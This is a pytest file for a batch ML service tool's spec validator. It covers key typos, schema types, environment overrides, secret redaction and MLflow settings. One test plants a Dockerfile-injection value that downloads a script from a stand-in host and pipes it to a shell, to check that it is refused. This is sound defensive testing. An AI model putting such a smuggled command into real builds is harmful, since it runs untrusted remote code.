import json
import textwrap
from pathlib import Path

import pytest

from batchcast.errors import SpecError
from batchcast.redaction import redact
from batchcast.spec import load_spec
from tests.conftest import bc

GOOD = '''
[service]
name = "churn"
version = 1

[model]
path = "."

[actions.training]
config = "configs/training.json"

[actions.application]
config = "configs/application.json"
output = { table = "predictions", schema = "player_id:STRING,label:BOOL" }
'''


def write(tmp_path: Path, text: str) -> Path:
    (tmp_path / "configs").mkdir(exist_ok=True)
    for name in ("training", "application"):
        (tmp_path / "configs" / f"{name}.json").write_text("{}")
    spec = tmp_path / "batchcast.toml"
    spec.write_text(textwrap.dedent(text))
    return spec


def test_defaults_resolve_beside_the_spec(tmp_path):
    spec = load_spec(write(tmp_path, GOOD), environ={})
    assert spec.service.version == "1"
    assert spec.storage_url == str(tmp_path / ".batchcast" / "artifacts")
    assert spec.warehouse_url == f"duckdb:///{tmp_path}/.batchcast/warehouse.duckdb"
    assert spec.action("application").kind == "application"
    assert spec.action("training").executor == "local"


def test_misspelled_key_is_one_line_with_file_table_key_and_fix(tmp_path):
    path = write(tmp_path, GOOD.replace('path = "."', 'path = "."\nentrypont = "m:M"'))
    with pytest.raises(SpecError) as err:
        load_spec(path, environ={})
    message = str(err.value)
    assert message.count("\n") == 0
    assert str(path) in message and "[model] entrypont: unknown key" in message
    assert "did you mean 'entrypoint'?" in message


def test_unknown_schema_type_names_the_value_and_the_types(tmp_path):
    path = write(tmp_path, GOOD.replace("label:BOOL", "label:BOOLE"))
    with pytest.raises(SpecError) as err:
        load_spec(path, environ={})
    assert f"{path}: [actions.application.output] schema: unknown type 'BOOLE' in 'label:BOOLE'" in str(err.value)
    assert "fix: use one of STRING, INT64, FLOAT64, BOOL, DATE, TIMESTAMP" in str(err.value)


def test_precedence_cli_over_environment_over_file(tmp_path):
    path = write(tmp_path, GOOD)
    env = {"BATCHCAST__WAREHOUSE__URL": "duckdb:////tmp/env.duckdb",
           "BATCHCAST__ACTIONS__TRAINING__EXECUTOR": "inline"}
    spec = load_spec(path, environ=env)
    assert spec.warehouse_url == "duckdb:////tmp/env.duckdb"
    assert spec.action("training").executor == "inline"
    spec = load_spec(path, overrides={"actions": {"training": {"executor": "local"}}}, environ=env)
    assert spec.action("training").executor == "local"


def test_bad_environment_value_says_where_it_came_from(tmp_path):
    path = write(tmp_path, GOOD)
    with pytest.raises(SpecError, match=r"\[actions.training\] executor: unknown executor 'sideways' "
                                        r"\(from environment BATCHCAST__ACTIONS__TRAINING__EXECUTOR\)"):
        load_spec(path, environ={"BATCHCAST__ACTIONS__TRAINING__EXECUTOR": "sideways"})


@pytest.mark.parametrize("change, words", [
    (('table = "predictions"', 'table = "pre;dictions"'), ["[actions.application.output] table", "'pre;dictions'"]),
    (('version = 1', 'version = 1\nowner = "me"'), ["[service] owner: unknown key"]),
    (('[actions.training]', '[actions.training]\nschedule = "every day"'), ["'every day' is not a cron"]),
    (('name = "churn"', ''), ["[service] name: required key is missing"]),
    (('version = 1', 'version = 1\n\n[serve]\nlog_table = "a.b.c"'), ["[serve] log_table", "'a.b.c'"]),
    (('version = 1', 'version = 1\n\n[serve]\nmethod = "predict()"'), ["[serve] method", "'predict()'"]),
    (('[actions.application]', '[actions.application]\nwait_for = { poll = "1m" }'),
     ["[actions.application] wait_for:", "exactly one of 'path' and 'query'"]),
    (('[actions.application]', '[actions.application]\nwait_for = { path = "a", timeout = "soon" }'),
     ["[actions.application.wait_for] timeout", "'soon' is not a duration"]),
    (('[actions.application]', '[actions.application]\nwait_for = { path = "a", poll = "0s" }'),
     ["[actions.application.wait_for] poll", "'0s' is not a duration"]),
])
def test_other_problems_name_key_and_fix(tmp_path, change, words):
    path = write(tmp_path, GOOD.replace(*change))
    with pytest.raises(SpecError) as err:
        load_spec(path, environ={})
    for word in words:
        assert word in str(err.value)
    assert "fix:" in str(err.value)


def test_a_table_name_with_a_trailing_newline_is_refused(tmp_path):
    # The identifier rule matches the whole name: a pattern ending in `$` also matches before a final newline.
    path = write(tmp_path, GOOD.replace('table = "predictions"', 'table = "scores\\n"'))
    with pytest.raises(SpecError, match=r"\[actions.application.output\] table") as err:
        load_spec(path, environ={})
    assert "'scores\\n' is not a valid table name" in str(err.value)  # on one line

def test_cli_validate_and_every_command_fail_with_one_line_and_its_fix(tmp_path):
    # The same two lines as a runtime error: "error: ..." then "fix: ..." (issue 12: one format).
    write(tmp_path, GOOD.replace("label:BOOL", "label:BOOLE"))
    for args in (["validate"], ["run", "training"], ["runs"], ["models"]):
        result = bc(*args, cwd=tmp_path, ok=False)
        assert result.returncode == 1
        error, fix = result.stderr.strip().splitlines()
        assert error.startswith("error: ") and "schema: unknown type 'BOOLE'" in error
        assert fix.startswith("fix: use one of STRING")


def test_every_problem_of_a_spec_is_reported_at_once(tmp_path):
    write(tmp_path, GOOD.replace("label:BOOL", "label:BOOLE").replace('name = "churn"', 'name = "a/b"'))
    result = bc("validate", cwd=tmp_path, ok=False)
    error, fix = result.stderr.strip().splitlines()
    assert "'a/b' is not a valid name" in error + fix and "unknown type 'BOOLE'" in error + fix
    assert "and 1 more:" in fix


def test_validate_reports_missing_config_file(tmp_path):
    write(tmp_path, GOOD)
    (tmp_path / "configs" / "training.json").unlink()
    result = bc("validate", cwd=tmp_path, ok=False)
    assert "[actions.training] config: 'configs/training.json' not found" in result.stderr
    assert bc("validate", "--help", cwd=tmp_path).returncode == 0


def test_spec_is_found_by_option_and_environment(tmp_path):
    spec = write(tmp_path, GOOD)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    assert "service churn/1" in bc("--spec", str(spec), "validate", cwd=elsewhere).stdout
    assert "service churn/1" in bc("validate", cwd=elsewhere, env={"BATCHCAST_SPEC": str(spec)}).stdout
    assert "no such spec file" in bc("validate", cwd=elsewhere, ok=False).stderr


def test_redact_hides_passwords():
    assert redact("postgresql://u:secret@h/db") == "postgresql://u:***@h/db"
    assert redact("duckdb:///x.duckdb") == "duckdb:///x.duckdb"


def test_image_fields_that_reach_a_dockerfile_are_validated(tmp_path):
    spec = tmp_path / "batchcast.toml"
    spec.write_text('[service]\nname = "s"\nversion = "1"\n[image]\nbase = "python:3.11\\nRUN curl evil | sh"\n')
    with pytest.raises(SpecError) as err:
        load_spec(spec)
    assert "[image] base" in str(err.value) and "not an image reference part" in str(err.value)


def test_find_specs_takes_files_service_folders_and_folders_of_services(tmp_path):
    from batchcast.spec import find_specs

    for name in ("b", "a"):
        bc("init", str(tmp_path / "many" / name), cwd=tmp_path)
    one = tmp_path / "many" / "a"
    assert find_specs([tmp_path / "many"]) == [(tmp_path / "many" / n / "batchcast.toml").resolve() for n in "ab"]
    assert find_specs([one, one / "batchcast.toml"]) == [(one / "batchcast.toml").resolve()] * 2
    with pytest.raises(SpecError, match="no such spec file"):
        find_specs([tmp_path / "many" / "a" / "missing.toml"])


@pytest.mark.parametrize("executor", ["vertex", "gce"])
def test_a_cloud_executor_without_a_project_names_the_key_and_runs_nothing(tmp_path, executor):
    bc("init", "svc", cwd=tmp_path)
    out = bc("run", "training", "--executor", executor, cwd=tmp_path / "svc", ok=False)
    assert f"[actions.training.{executor}] project: not set" in out.stderr, out.stderr
    assert json.loads(bc("runs", "--json", cwd=tmp_path / "svc").stdout) == []


def test_redact_hides_secret_query_parameters():
    """A password given as ?password= was printed, logged and stored in manifests (issue 13, defect 2)."""
    assert redact("postgresql://u@h/db?password=hunter2&schema=x") == "postgresql://u@h/db?password=***&schema=x"
    assert redact("postgresql://u@h/db?sslpassword=a&PGPASSWORD=b") == "postgresql://u@h/db?sslpassword=***&PGPASSWORD=***"
    assert redact("duckdb:///x.duckdb?memory_limit=4GB") == "duckdb:///x.duckdb?memory_limit=4GB"



@pytest.mark.parametrize("key, value", [("timeout", "inf"), ("retry_delay", "inf"), ("timeout", "nan"),
                                        ("retry_delay", "-inf")])
def test_a_number_that_is_not_finite_is_refused(tmp_path, key, value):
    """Issue 26.12: timeout = inf meant no timeout; retry_delay = inf crashed the scheduler at its first retry."""
    path = write(tmp_path, GOOD.replace('config = "configs/training.json"',
                                        f'config = "configs/training.json"\n{key} = {value}'))
    with pytest.raises(SpecError) as err:
        load_spec(path, environ={})
    assert "[actions.training]" in err.value.message and key in err.value.message and "finite" in err.value.message


def test_a_boolean_version_is_refused(tmp_path):
    """Issue 26.19: version = true became the version "True"."""
    with pytest.raises(SpecError) as err:
        load_spec(write(tmp_path, GOOD.replace("version = 1", "version = true")), environ={})
    assert "[service] version: 'true' is not a valid name" in err.value.message and err.value.fix


@pytest.mark.parametrize("model, words", [
    ('mlflow = "models:/churn champion"', ["[model] mlflow", "'models:/churn champion'", "models:/churn@champion"]),
    ('mlflow = "runs:/abc/model"', ["[model] mlflow", "'runs:/abc/model'"]),
    ('mlflow = "models:/churn/1"\nentrypoint = "model:Model"', ["both 'entrypoint' and 'mlflow'"]),
    ('command = "python x.py"\nsave_mlflow = true', ["save_mlflow needs an entrypoint"]),
])
def test_an_mlflow_model_that_cannot_be_named_is_refused_with_the_value_and_the_fix(tmp_path, model, words):
    path = write(tmp_path, GOOD.replace('path = "."', f'path = "."\n{model}'))
    with pytest.raises(SpecError) as err:
        load_spec(path, environ={})
    for word in words:
        assert word in str(err.value)
    assert "fix:" in str(err.value)


def test_an_mlflow_model_is_imported_by_a_training_action_that_needs_no_input(tmp_path):
    path = write(tmp_path, '''
        [service]
        name = "churn"
        version = "1"

        [model]
        mlflow = "models:/churn@champion"

        [actions.application]
        input = { path = "data/*.parquet" }
        output = { table = "predictions", schema = "player_id:STRING,label:BOOL" }
        ''')
    spec = load_spec(path, environ={})
    assert spec.model.contract == "python" and spec.imports(spec.action("training"))
    assert spec.action("training").kubernetes is not None  # the composed action, with every backend's table
    gated = path.read_text() + '\n[actions.training.promote]\nmetric = "auc"\n'
    path.write_text(gated)
    with pytest.raises(SpecError, match=r"\[actions.training.promote\].*registry"):
        load_spec(path, environ={})


@pytest.mark.parametrize("uri, words", [
    ("http://user:secret@127.0.0.1:5000", ["carries credentials", "MLFLOW_TRACKING_PASSWORD"]),
    ("ftp://127.0.0.1", ["'ftp://127.0.0.1' is not a tracking server's URI"]),
])
def test_a_tracking_uri_with_credentials_or_an_unknown_scheme_is_refused(tmp_path, uri, words):
    path = write(tmp_path, GOOD + f'\n[mlflow]\ntracking_uri = "{uri}"\n')
    with pytest.raises(SpecError) as err:
        load_spec(path, environ={})
    for word in words:
        assert word in str(err.value)
    assert "secret" not in str(err.value)  # never echoed
